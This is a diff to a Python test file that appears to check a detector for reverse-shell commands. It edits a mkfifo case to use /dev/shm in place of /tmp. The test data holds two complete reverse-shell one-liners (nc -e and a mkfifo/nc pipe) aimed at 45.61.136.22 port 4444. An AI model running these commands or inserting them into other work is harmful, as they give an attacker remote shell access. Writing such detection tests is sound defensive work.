@@ -222,7 +222,8 @@ class TestScripts:
         [
             ("nc -e /bin/sh 45.61.136.22 4444", "text-shell-reverse-shell"),
             (
-                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 45.61.136.22 4444 >/tmp/f",
+                "rm /dev/shm/f;mkfifo /dev/shm/f;"
+                "cat /dev/shm/f|/bin/sh -i 2>&1|nc 45.61.136.22 4444 >/dev/shm/f",
                 "text-shell-reverse-shell",
             ),
             (
